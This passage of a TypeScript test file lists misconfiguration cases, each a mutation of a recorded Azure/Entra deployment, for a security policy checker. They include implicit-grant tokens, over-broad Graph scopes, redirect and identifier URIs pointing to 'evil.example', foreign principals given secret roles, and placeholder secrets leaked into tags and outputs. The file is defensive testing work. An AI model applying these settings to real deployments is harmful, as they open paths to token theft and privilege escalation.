      (prod) => set(types.roleAssignment, { scope: knownOf(prod).groupId }, "identity-reads-secrets")(prod),
    ],
    [
      "a person in the identity's place",
      set(types.roleAssignment, { principalType: "User" }, "identity-reads-secrets"),
    ],
    ["an identity of the web app's own", set(types.webApp, { "identity.type": "SystemAssigned, UserAssigned" })],
    [
      "somebody's identity",
      set(types.webApp, {
        "identity.userAssignedIdentities": [
          "/subscriptions/x/resourceGroups/evil/providers/Microsoft.ManagedIdentity/userAssignedIdentities/i",
        ],
      }),
    ],
    [
      "two owners",
      (prod) =>
        set(
          types.application,
          { owners: [...(one(prod.resources, types.application, "bot").inputs["owners"] as string[]), somebody] },
          "bot",
        )(prod),
    ],
    [
      "a permission without a user",
      set(
        types.application,
        {
          requiredResourceAccesses: [
            {
              resourceAppId: "00000003-0000-0000-c000-000000000000",
              resourceAccesses: [{ id: "b633e1c5-b582-4048-a93e-9f11b44c7e96", type: "Role" }],
            },
          ],
        },
        "sign-in",
      ),
    ],
    [
      "a permission of another API",
      set(
        types.application,
        { requiredResourceAccesses: [{ resourceAppId: somebody, resourceAccesses: [] }] },
        "sign-in",
      ),
    ],
    [
      "tokens in the address",
      set(types.application, { "web.implicitGrant.accessTokenIssuanceEnabled": true }, "sign-in"),
    ],
    [
      "id tokens in the address",
      set(types.application, { "web.implicitGrant.idTokenIssuanceEnabled": true }, "sign-in"),
    ],
    ["a public client", set(types.application, { fallbackPublicClientEnabled: true }, "sign-in")],
    [
      "a second scope of the sign-in app",
      set(
        types.application,
        { "api.oauth2PermissionScopes": [{ id: somebody, value: "everything", type: "User", enabled: true }] },
        "sign-in",
      ),
    ],
    [
      "more scopes than the settings say",
      set(types.connection, { "properties.scopes": "openid Mail.ReadWrite Files.ReadWrite.All" }),
    ],
    ["consent that is no list of names", set(types.grant, { claimValues: ["Mail.Read Directory.ReadWrite.All"] })],
    [
      "somebody's client without consent",
      set(types.preAuthorized, { authorizedClientId: somebody }, "single-sign-on-teams-web"),
    ],
    ["an identifier URI of another bot", set(types.identifierUri, { identifierUri: "https://evil.example/api" })],
    ["a second pair of hands on the principal", set(types.servicePrincipal, { owners: [somebody, somebody] }, "bot")],
  ],
  "logs-kept": [
    ["logs for a month in prod", set(types.workspace, { retentionInDays: 30 })],
    [
      "users' cookies",
      set(types.diagnosticSetting, { logs: [{ category: "AppServiceHTTPLogs", enabled: true }] }, "logs-host"),
    ],
    [
      "every log there is",
      set(types.diagnosticSetting, { logs: [{ categoryGroup: "allLogs", enabled: true }] }, "logs-host"),
    ],
    [
      "a log switched off",
      set(types.diagnosticSetting, { logs: [{ category: "AuditEvent", enabled: false }] }, "logs-vault"),
    ],
    ["no log at all", set(types.diagnosticSetting, { logs: [] }, "logs-vault")],
    [
      "requests kept for a year",
      lifecycle({
        definition: {
          filters: { blobTypes: ["blockBlob"], prefixMatch: forgotten },
          actions: { baseBlob: { delete: { daysAfterModificationGreaterThan: 365 } } },
        },
      }),
    ],
    ["requests kept for ever", lifecycle({ enabled: false })],
    ["sessions that were signed out, good again after a day", lifecycle({}, 1)],
    [
      "requests of another folder",
      lifecycle({
        definition: {
          filters: { blobTypes: ["blockBlob"], prefixMatch: ["other/"] },
          actions: { baseBlob: { delete: { daysAfterModificationGreaterThan: 1 } } },
        },
      }),
    ],
  ],
  marks: [
    ["a web app of nobody's", set(types.webApp, { tags: undefined })],
    [
      "an application with another stack's marks",
      set(types.application, { tags: ["project:bot-sign-in", "stack:dev"] }, "bot"),
    ],
    ["a connection with tags", set(types.connection, { tags: { project: "bot-sign-in", stack: "prod" } })],
    ["a channel with tags", set(types.channel, { tags: { note: "x" } })],
    ["a secret by its tag's name", set(types.vault, { "tags.adminPassword": "hunter2" })],
    ["a secret by its form", set(types.plan, { "tags.note": "8Q~abcdefghijklmnopqrstuvwxyz0123456789AB" })],
  ],
  "prod-protected": [types.vault, types.storage, types.bot, types.channel].map((type): Row => [
    `${type} that can be deleted`,
    (prod) => changed(prod, { type, protect: false }),
  ]),
  "basic-auth-switched-off": [
    ["no switch of the deployment service", (prod) => without(prod, types.scmLogin)],
    ["no switch of FTP", (prod) => without(prod, types.ftpLogin)],
    [
      "switches of another web app",
      (prod) => {
        const app = one(prod.resources, types.webApp);
        return { ...prod, resources: [...prod.resources, { ...app, name: "second", urn: `${app.urn}-second` }] };
      },
    ],
  ],
  "nothing-left-out": [
    ["no rule about unfinished sign-ins", (prod) => without(prod, types.lifecycle)],
    [
      "no log of the vault",
      (prod) => ({ ...prod, resources: prod.resources.filter((resource) => !isCalled(resource, "logs-vault")) }),
    ],
    ["Direct Line left as Azure made it", (prod) => without(prod, types.directLineSite)],
    ["Web Chat left as Azure made it", (prod) => without(prod, types.webChatSite)],
    [
      "code that comes some other way",
      (prod) => ({
        ...without(prod, types.deployedCode),
      }),
    ],
  ],
  "own-identity": [
    ["the secrets' role for somebody", set(types.roleAssignment, { principalId: somebody }, "identity-reads-secrets")],
    ["the state's role for somebody", set(types.roleAssignment, { principalId: somebody }, "identity-writes-state")],
    [
      "the sign-in through another of the program's applications",
      (prod) => {
        const application = "azuread:index/application:Application";
        const other = withAnother(prod, application, "beside", { displayName: "x" });
        return set(types.connection, { "properties.clientId": somebody })({ ...prod, ...other });
      },
    ],
    [
      "a password of another application",
      set(types.applicationPassword, { applicationId: `/applications/${somebody}` }, "sign-in"),
    ],
    [
      "Teams let in to another application",
      set(types.preAuthorized, { applicationId: `/applications/${somebody}` }, "single-sign-on-teams-web"),
    ],
  ],
  "secrets-stay": [
    ["a password in a tag", set(types.workspace, { "tags.note": "bot-password-value" })],
    ["a password in a name", set(types.bot, { "properties.displayName": "sign-in-password-value" })],
    ["a password as an output", (prod) => ({ ...prod, outputs: { ...prod.outputs, note: "bot-password-value" } })],
    ["an output that calls itself a key", (prod) => ({ ...prod, outputs: { ...prod.outputs, storageAccessKey: "x" } })],
    [
      "a token inside an output",
      (prod) => ({ ...prod, outputs: { ...prod.outputs, all: { a: ["8Q~abcdefghijklmnopqrstuvwxyz0123456789AB"] } } }),
    ],
    [
      "a tag that is made of a password which nobody knows yet",
      (prod) => {
        const tags = { project: "bot-sign-in", stack: "prod", note: "04da6b54-80e4-46f7-96ec-b56ff0331ba9" };
        const { resources, outputs } = changed(prod, { type: types.workspace, inputs: { tags } });
        const refersTo = { tags: [referenceTo(prod, types.applicationPassword, "bot")] };
        return {
          outputs,
          resources: resources.map((other) => (other.type === types.workspace ? { ...other, refersTo } : other)),
        };
      },
    ],
  ],
  "reaches-in": [
    [
      "a redirect address for an application that nobody knows yet",
      (prod) =>
        withAnother(
          prod,
          "azuread:index/applicationRedirectUris:ApplicationRedirectUris",
          "another",
          { applicationId: "04da6b54-80e4-46f7-96ec-b56ff0331ba9", type: "SPA", redirectUris: [evil] },
          { applicationId: [referenceTo(prod, types.application, "sign-in")] },
        ),
    ],
    [
      "a slot of a web app that nobody knows yet",
      (prod) =>
        withAnother(
          prod,
          "azure-native:web:WebAppSlot",
          "another",
          { name: "04da6b54-80e4-46f7-96ec-b56ff0331ba9" },
          { name: [referenceTo(prod, types.webApp)] },
        ),
    ],
    [
      "a password of the service principal, by an id that only Entra gives",
      (prod) => {
        const servicePrincipalId = `/servicePrincipals/${servicePrincipalOf(prod)}`;
        return withAnother(prod, "azuread:index/servicePrincipalPassword:ServicePrincipalPassword", "another", {
          servicePrincipalId,
        });
      },
    ],
    [
      "a directory role for the service principal",
      (prod) =>
        withAnother(prod, "azuread:index/directoryRoleAssignment:DirectoryRoleAssignment", "another", {
          principalObjectId: servicePrincipalOf(prod),
          roleId: somebody,
        }),
    ],
  ],
};

/** A resource as the recording refers to it. */
function referenceTo(prod: Recording, type: string, name?: string): string {
  return `${type.split(":").at(-1)} ${one(prod.resources, type, name).name}`;
}

function servicePrincipalOf(prod: Recording): string {
  return String(one(prod.resources, types.grant).inputs["servicePrincipalObjectId"]);
}

export const evasions: readonly Evasion[] = Object.entries(table).flatMap(([rule, rows]) =>
  rows.map(([what, make]) => ({ rule, what, make })),
);
